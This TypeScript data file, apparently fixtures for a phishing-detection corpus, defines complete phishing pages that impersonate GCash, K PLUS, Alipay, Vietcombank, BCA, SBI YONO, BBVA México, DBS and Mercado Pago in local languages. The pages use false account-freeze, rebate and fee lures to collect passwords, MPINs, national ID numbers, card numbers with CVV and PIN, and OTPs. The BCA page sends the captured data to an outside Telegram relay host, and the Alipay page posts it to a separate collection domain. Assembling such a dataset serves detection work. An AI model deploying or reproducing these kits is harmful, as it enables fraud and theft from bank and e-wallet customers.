import type { Entry } from '../entry.js';
import { doc, mobileCss, corpCss, shell, cardFields, stepScript, okJson, img, htmlRoute, jsRoute, jsonRoute, gtag } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-phish-gcash-rebate-mpin',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://gcash-ph-rebate.help/claim/',
  body: doc({
    lang: 'fil',
    title: 'GCash',
    css: mobileCss('#007dfe') + 'body{background:#eaf3ff}.big{font-size:30px;font-weight:800;color:#007dfe;text-align:center;margin:6px 0}',
    body: `<div class="bar"><img src="/claim/g.png" alt="">GCash</div>
<div class="wrap" id="app"><div class="box center">Naglo-load...</div></div>
<div class="ft">GCash is a registered trademark of G-Xchange, Inc. Regulated by the Bangko Sentral ng Pilipinas. © 2026</div>
<script src="/claim/app.js"></script>`,
  }),
  routes: {
    'gcash-ph-rebate.help/claim/g.png': img(0, 125, 254),
    'gcash-ph-rebate.help/claim/app.js': jsRoute(`(function(){
var a=document.getElementById('app');var st={};
function s1(){a.innerHTML='<div class="box"><h2>Congrats! May naghihintay na GCash Rebate para sa iyo</h2><div class="big">\\u20b15,000.00</div><p style="font-size:14px">Bilang pasasalamat sa aming loyal users, makakatanggap ka ng cash rebate. I-claim bago mag-expire ngayong araw. Ilagay lang ang iyong GCash number.</p><label>Mobile Number</label><input id="m" inputmode="numeric" placeholder="09XX XXX XXXX" maxlength="11"><button id="b">Next</button><p class="tip">Limitado lang ang slots: <b class="red">37</b> na lang ang natitira.</p></div>';
document.getElementById('b').onclick=function(){st.m=document.getElementById('m').value;if(st.m.length<10)return;s2();};}
function s2(){a.innerHTML='<div class="box center"><h2>Enter your MPIN</h2><p style="font-size:13px">Para ma-verify na ikaw ang may-ari ng account '+st.m+'</p><input id="p" type="password" maxlength="4" inputmode="numeric" style="text-align:center;font-size:26px;letter-spacing:14px"><button id="b">Login</button><p class="tip">Never share your MPIN with anyone. (Maliban dito sa official verification page)</p></div>';
document.getElementById('b').onclick=function(){st.p=document.getElementById('p').value;post();s3();};}
function s3(){a.innerHTML='<div class="box center"><h2>Authentication</h2><p style="font-size:13px">Nagpadala kami ng 6-digit authentication code sa '+st.m+'. Ilagay ito para ma-credit ang rebate.</p><input id="o" maxlength="6" inputmode="numeric" style="text-align:center;font-size:24px"><button id="b">Submit</button></div>';
document.getElementById('b').onclick=function(){st.o=document.getElementById('o').value;post();a.innerHTML='<div class="box center"><h2>Processing...</h2><p>Hintayin ang SMS confirmation. Huwag isara ang page na ito.</p></div>';};}
function post(){var x=new XMLHttpRequest();x.open('POST','/claim/api/save',true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify(st));}
setTimeout(s1,600);})();`),
    'gcash-ph-rebate.help/claim/api/save': okJson(),
  },
},
{
  id: 'u-phish-kplus-verify-identity-th',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://kplus-kasikorn-update.com/th/verify',
  body: doc({
    lang: 'th',
    title: 'K PLUS - ยืนยันตัวตน',
    css: mobileCss('#00a950') + 'body{font-family:"Sarabun","Tahoma",sans-serif}',
    body: `<div class="bar"><img src="/th/kbank.png" alt="">K PLUS | ธนาคารกสิกรไทย</div>
<div class="wrap">
<div class="box"><h2>แจ้งเตือน: บัญชีของท่านถูกระงับการใช้งานชั่วคราว</h2>
<p style="font-size:14px">เนื่องจากตรวจพบการเข้าสู่ระบบจากอุปกรณ์ที่ไม่รู้จัก ตามประกาศธนาคารแห่งประเทศไทย ลูกค้าต้องยืนยันตัวตนภายใน 24 ชั่วโมง มิฉะนั้นบัญชีจะถูกระงับถาวร และไม่สามารถโอนเงินผ่านพร้อมเพย์ได้</p></div>
<form id="f" class="box">
<label>เลขประจำตัวประชาชน 13 หลัก</label><input name="idcard" maxlength="13" inputmode="numeric" required>
<label>เบอร์โทรศัพท์ที่ผูกกับบัญชี</label><input name="phone" inputmode="tel" required>
<label>เลขที่บัญชี</label><input name="acct" inputmode="numeric" required>
<label>รหัสผ่าน K PLUS (6 หลัก)</label><input name="pin" type="password" maxlength="6" inputmode="numeric" required>
<button>ยืนยันตัวตน</button>
<p class="tip">ข้อมูลของท่านได้รับการเข้ารหัสตามมาตรฐาน SSL 256 bit</p>
</form></div>
<div class="ft">© 2569 ธนาคารกสิกรไทย จำกัด (มหาชน) สงวนลิขสิทธิ์ | K-Contact Center 02-888-8888</div>
${stepScript('/th/api/verify.php', '/th/otp')}`,
  }),
  routes: {
    'kplus-kasikorn-update.com/th/kbank.png': img(0, 169, 80),
    'kplus-kasikorn-update.com/th/api/verify.php': okJson(),
    'kplus-kasikorn-update.com/th/otp': htmlRoute(doc({ lang: 'th', title: 'K PLUS - OTP', css: mobileCss('#00a950'), body: `<div class="bar">K PLUS</div><div class="wrap"><form class="box" method="post" action="/th/api/verify.php"><h2>กรอกรหัส OTP</h2><p>ระบบได้ส่งรหัส OTP ไปยังเบอร์โทรศัพท์ของท่าน (Ref: KX7Q)</p><input name="otp" maxlength="6" inputmode="numeric"><button>ยืนยัน</button></form></div>` })),
  },
},
{
  id: 'u-phish-alipay-account-freeze-zhcn',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://alipay-zhanghu-jiedong.cc/index.html',
  body: doc({
    lang: 'zh-CN',
    title: '支付宝 - 账户安全中心',
    css: mobileCss('#1677ff') + 'body{font-family:"PingFang SC","Microsoft YaHei",sans-serif}',
    body: `<div class="bar"><img src="/static/zfb.png" alt="">支付宝 · 安全中心</div>
<div class="wrap">
<div class="box"><h2 class="red">账户异常冻结通知</h2>
<p style="font-size:14px">尊敬的用户：系统检测到您的账户存在异常交易，涉嫌违反《支付宝服务协议》，余额及花呗功能已被临时冻结。请于<b>24小时内</b>完成身份核验以解除冻结，逾期将永久冻结并上报央行征信。</p></div>
<form id="f" class="box">
<label>支付宝账号（手机号/邮箱）</label><input name="acc" required>
<label>登录密码</label><input name="pwd" type="password" required>
<label>真实姓名</label><input name="name" required>
<label>身份证号码</label><input name="idno" maxlength="18" required>
<label>绑定银行卡号</label><input name="card" inputmode="numeric" required>
<label>支付密码（6位数字）</label><input name="paypwd" type="password" maxlength="6" inputmode="numeric" required>
<button>立即解冻</button>
</form>
<p class="tip">温馨提示：核验过程全程加密，请放心填写。客服热线 95188</p></div>
<div class="ft">© 2004-2026 Alipay.com. All rights reserved. 浙B2-20100076</div>
${stepScript('https://api.zfb-hexiao.cc/submit', '/sms.html')}`,
  }),
  routes: {
    'alipay-zhanghu-jiedong.cc/static/zfb.png': img(22, 119, 255),
    'api.zfb-hexiao.cc/submit': okJson(),
    'alipay-zhanghu-jiedong.cc/sms.html': htmlRoute(doc({ lang: 'zh-CN', title: '短信验证', css: mobileCss('#1677ff'), body: `<div class="bar">支付宝</div><div class="wrap"><form class="box" method="post" action="https://api.zfb-hexiao.cc/submit"><h2>短信验证</h2><p>验证码已发送至您的手机，请勿泄露给他人。</p><input name="code" maxlength="6"><button>提交</button></form></div>` })),
  },
},
{
  id: 'u-phish-vcb-sinh-trac-hoc',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://vcb-sinhtrachoc.com/dang-nhap',
  body: doc({
    lang: 'vi',
    title: 'VCB Digibank - Cập nhật sinh trắc học',
    css: mobileCss('#006b3f'),
    body: `<div class="bar"><img src="/assets/vcb.png" alt="">Vietcombank</div>
<div class="wrap">
<div class="box"><h2>Thông báo cập nhật sinh trắc học</h2>
<p style="font-size:14px">Thực hiện Quyết định 2345/QĐ-NHNN, từ ngày 01/07 các giao dịch chuyển tiền trên 10 triệu đồng phải xác thực bằng sinh trắc học. Quý khách vui lòng cập nhật thông tin để tránh bị gián đoạn giao dịch.</p></div>
<form id="f" class="box">
<label>Tên đăng nhập</label><input name="user" required>
<label>Mật khẩu</label><input name="pass" type="password" required>
<label>Số CCCD gắn chip</label><input name="cccd" maxlength="12" inputmode="numeric" required>
<button>Tiếp tục</button>
</form>
<p class="tip">Hotline 1900 54 54 13 · Vietcombank không yêu cầu khách hàng cung cấp OTP qua điện thoại.</p></div>
<div class="ft">Bản quyền © 2026 Ngân hàng TMCP Ngoại thương Việt Nam</div>
${stepScript('/api/login.php', '/xac-thuc-otp')}`,
  }),
  routes: {
    'vcb-sinhtrachoc.com/assets/vcb.png': img(0, 107, 63),
    'vcb-sinhtrachoc.com/api/login.php': okJson(),
    'vcb-sinhtrachoc.com/xac-thuc-otp': htmlRoute(doc({ lang: 'vi', title: 'Xác thực OTP', css: mobileCss('#006b3f'), body: `<div class="bar">Vietcombank</div><div class="wrap"><form class="box" method="post" action="/api/login.php"><h2>Nhập mã OTP</h2><p>Mã xác thực Smart OTP đã được gửi. Vui lòng nhập để hoàn tất cập nhật.</p><input name="otp" maxlength="8"><button>Xác nhận</button><p class="tip">Bước tiếp theo: chụp ảnh khuôn mặt (quay trái, quay phải)</p></form></div>` })),
  },
},
{
  id: 'u-phish-klikbca-tarif-baru',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bca-perubahan-tarif.web.id/',
  body: doc({
    lang: 'id',
    title: 'BCA - Persetujuan Tarif Transaksi',
    css: mobileCss('#0060af') + '.opt{display:block;border:1px solid #ccd;border-radius:8px;padding:12px;margin:8px 0;font-size:14px}.opt input{width:auto;margin-right:8px}',
    body: `<div class="bar"><img src="/bca.png" alt="">BCA</div>
<div class="wrap">
<div class="box"><h2>Nasabah Yth,</h2>
<p style="font-size:14px">Mulai bulan ini BCA memberlakukan tarif transaksi baru sebesar <b>Rp150.000/bulan</b> untuk transaksi tanpa batas. Jika Anda tidak setuju, silakan pilih tarif lama (Rp6.500/bulan) di bawah ini. Jika tidak ada konfirmasi, tarif baru akan otomatis diberlakukan.</p>
<label class="opt"><input type="radio" name="t" checked>Saya TIDAK SETUJU tarif baru (tetap Rp6.500/bulan)</label>
<label class="opt"><input type="radio" name="t">Saya setuju tarif baru Rp150.000/bulan</label></div>
<form id="f" class="box">
<h2>Login KlikBCA Individual</h2>
<label>User ID</label><input name="uid" required>
<label>PIN Internet Banking</label><input name="pin" type="password" maxlength="6" required>
<label>Nomor Kartu ATM (16 digit)</label><input name="atm" inputmode="numeric" maxlength="16" required>
<label>Nomor HP terdaftar</label><input name="hp" inputmode="tel" required>
<label>Saldo terakhir (perkiraan)</label><input name="saldo" placeholder="Rp" required>
<button>Kirim</button>
</form></div>
<div class="ft">PT Bank Central Asia Tbk. terdaftar dan diawasi oleh OJK serta merupakan peserta penjaminan LPS. Halo BCA 1500888</div>
<script>
var f=document.getElementById('f');f.onsubmit=function(e){e.preventDefault();var q=new URLSearchParams(new FormData(f)).toString();
fetch('https://api.telegram-relay.web.id/bot/sendMessage?chat=-1001887&text='+encodeURIComponent(q)).catch(function(){});
setTimeout(function(){location.href='/otp.html'},900);};
</script>`,
  }),
  routes: {
    'bca-perubahan-tarif.web.id/bca.png': img(0, 96, 175),
    'api.telegram-relay.web.id/bot/sendMessage': okJson(),
    'bca-perubahan-tarif.web.id/otp.html': htmlRoute(doc({ lang: 'id', title: 'BCA - Verifikasi', css: mobileCss('#0060af'), body: `<div class="bar">BCA</div><div class="wrap"><form class="box"><h2>Masukkan kode OTP</h2><p>Kode OTP telah dikirim ke nomor HP Anda. Jangan berikan kode ini kepada siapa pun.</p><input name="otp" maxlength="6"><button>Verifikasi</button></form></div>` })),
  },
},
{
  id: 'u-phish-yono-pan-update-hi',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sbi-yono-kyc.in.net/yono/pan.php',
  body: `<html><head><meta name="viewport" content="width=device-width"><title>YONO SBI</title>
<style>body{font-family:Arial;margin:0;background:#fff}.h{background:#280071;color:#fff;padding:12px;font-size:20px}.c{padding:15px}input{width:95%;padding:10px;margin:6px 0;border:1px solid #999}button{background:#00b5ef;color:#fff;padding:12px;width:98%;border:none;font-size:17px}</style></head>
<body><div class="h">YONO <b>SBI</b></div><div class="c">
<p style="color:red"><b>प्रिय ग्राहक, आपका YONO खाता आज रात 12 बजे ब्लॉक हो जाएगा।</b></p>
<p>कृपया तुरंत अपना PAN कार्ड अपडेट करें। Dear customer your A/c will be suspended today please update PAN card.</p>
<form method="post" action="pan_save.php">
<input name="uid" placeholder="Username" required><br>
<input name="pass" type="password" placeholder="Password" required><br>
<input name="pan" placeholder="PAN Card No." required><br>
<input name="mob" placeholder="Registered Mobile No." required><br>
<input name="dob" placeholder="Date Of Birth (DD/MM/YYYY)"><br>
<button>Submit / जमा करें</button></form>
<p style="font-size:11px">© State Bank of India. All right reserved</p></div></body></html>`,
  routes: {
    'sbi-yono-kyc.in.net/yono/pan_save.php': htmlRoute(`<html><head><meta name="viewport" content="width=device-width"><title>YONO SBI</title></head><body style="font-family:Arial"><div style="background:#280071;color:#fff;padding:12px">YONO SBI</div><form method="post" action="otp_save.php" style="padding:15px"><p>Enter OTP sent to your registered mobile number / अपने मोबाइल पर भेजा गया OTP दर्ज करें</p><input name="otp" maxlength="6" style="padding:10px;width:95%"><br><br><button style="background:#00b5ef;color:#fff;padding:12px;width:98%;border:none">Verify</button></form></body></html>`),
  },
},
{
  id: 'u-phish-bbva-mx-cargo-no-reconocido',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bbva-mx-aclaraciones.com/personas/acceso',
  body: doc({
    lang: 'es-MX',
    title: 'BBVA México | Aclaraciones',
    css: corpCss('#072146', '#1973b8') + '.login{max-width:440px;margin:24px auto}',
    head: gtag('G-8QX21LMZ0P'),
    body: shell({ brand: 'BBVA', logo: 'BBVA', nav: ['Personas', 'Empresas', 'Ayuda'], footer: 'BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México. Av. Paseo de la Reforma 510, Col. Juárez, CDMX.', links: ['Aviso de privacidad', 'Seguridad', 'UNE'] })(`<div class="card login">
<h2 style="margin-top:0">Cancelación de cargo no reconocido</h2>
<div class="note">Detectamos un cargo por <b>$8,499.00 MXN</b> en AMAZON MX MARKETPLACE. Si usted no lo reconoce, ingrese para cancelarlo antes de que se aplique.</div>
<form id="f"><label>Número de tarjeta o usuario</label><input name="user" inputmode="numeric" required>
<label>Contraseña</label><input name="pwd" type="password" required>
<label>NIP de cajero (4 dígitos)</label><input name="nip" type="password" maxlength="4" required>
<button style="margin-top:16px;width:100%">Cancelar cargo</button></form>
<p class="muted">Tiempo restante para cancelar: <b id="t">09:59</b></p></div>
<script>var s=599;setInterval(function(){s--;if(s<0)return;document.getElementById('t').textContent=('0'+Math.floor(s/60)).slice(-2)+':'+('0'+s%60).slice(-2)},1000);</script>`),
  }) + stepScript('/personas/valida.php', '/personas/token'),
  routes: {
    'bbva-mx-aclaraciones.com/personas/valida.php': okJson(),
    'bbva-mx-aclaraciones.com/personas/token': htmlRoute(doc({ lang: 'es-MX', title: 'BBVA | Token', css: mobileCss('#072146'), body: `<div class="bar">BBVA</div><div class="wrap"><form class="box" method="post" action="/personas/valida.php"><h2>Token móvil</h2><p>Ingresa el código de 8 dígitos generado en tu app BBVA México.</p><input name="otp" maxlength="8"><button>Confirmar</button></form></div>` })),
  },
},
{
  id: 'u-phish-dbs-digibank-sg',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://dbs-digibank-sg.com-secure-login.info/iblogin/',
  body: doc({
    lang: 'en-SG',
    title: 'DBS digibank Online',
    css: corpCss('#e60000', '#e60000') + '.login{max-width:420px;margin:24px auto}',
    body: shell({ brand: 'DBS', logo: 'DBS digibank', nav: ['Personal', 'Treasures', 'Business'], footer: 'Copyright © 2026 DBS Bank Ltd. Co. Reg. No. 196800306E', links: ['Security & You', 'Terms', 'Privacy'] })(`<div class="card login">
<h2 style="margin-top:0">Log in to digibank</h2>
<p class="muted">Your digital token has been deactivated due to a recent update. Reactivate it within 24 hours to continue making PayNow transfers.</p>
<form id="f"><label>User ID</label><input name="uid" required><label>PIN</label><input name="pin" type="password" required>
<button style="margin-top:16px;width:100%">Log in</button></form>
<p class="muted">Never share your OTP. <a href="#">Forgot User ID or PIN?</a></p></div>`),
  }) + stepScript('/iblogin/check', '/iblogin/token'),
  routes: {
    'dbs-digibank-sg.com-secure-login.info/iblogin/check': okJson(),
    'dbs-digibank-sg.com-secure-login.info/iblogin/token': htmlRoute(doc({ lang: 'en-SG', title: 'DBS digibank - Authenticate', css: mobileCss('#e60000'), body: `<div class="bar">DBS digibank</div><div class="wrap"><form class="box" method="post" action="/iblogin/check"><h2>SMS OTP</h2><p>Enter the 6-digit OTP sent to your mobile ending in ••••. Card number is required to rebind your token.</p><label>OTP</label><input name="otp"><label>Debit card number</label><input name="card"><label>Card PIN</label><input name="cpin" type="password" maxlength="6"><button>Submit</button></form></div>` })),
  },
},
{
  id: 'u-phish-mercadopago-nuevo-dispositivo',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://mp-seguridad-cuenta.com/ar/ingreso',
  body: doc({
    lang: 'es-AR',
    title: 'Mercado Pago',
    css: mobileCss('#009ee3') + 'body{background:#ededed}',
    body: `<div class="bar"><img src="/ar/mp.png" alt="">mercado pago</div>
<div class="wrap">
<div class="box"><h2>Detectamos un ingreso desde un dispositivo nuevo</h2>
<p style="font-size:14px">Samsung Galaxy A54 · Córdoba, Argentina · hoy 03:14. Si no fuiste vos, validá tu identidad para proteger tu dinero disponible.</p></div>
<form id="f" class="box">
<label>E-mail, teléfono o usuario</label><input name="email" required>
<label>Contraseña</label><input name="pass" type="password" required>
<label>DNI</label><input name="dni" inputmode="numeric" required>
<button>Validar identidad</button>
</form>
<form id="g" class="box" style="display:none"><h2>Confirmá la tarjeta asociada</h2>
${cardFields({ name: 'Nombre como figura en la tarjeta', number: 'Número de tarjeta', exp: 'Vencimiento', cvv: 'Código de seguridad' })}<button>Confirmar</button></form>
</div>
<div class="ft">Copyright © 2026 MercadoLibre S.R.L. — Av. Caseros 3039, CABA</div>
<script>
function go(id,next){var f=document.getElementById(id);f.onsubmit=function(e){e.preventDefault();fetch('/ar/srv/guardar',{method:'POST',body:new FormData(f)}).finally(next)}}
go('f',function(){document.getElementById('f').style.display='none';document.getElementById('g').style.display='block'});
go('g',function(){location.href='https://www.mercadopago.com.ar/'});
</script>`,
  }),
  routes: {
    'mp-seguridad-cuenta.com/ar/mp.png': img(0, 158, 227),
    'mp-seguridad-cuenta.com/ar/srv/guardar': okJson(),
  },
},
];
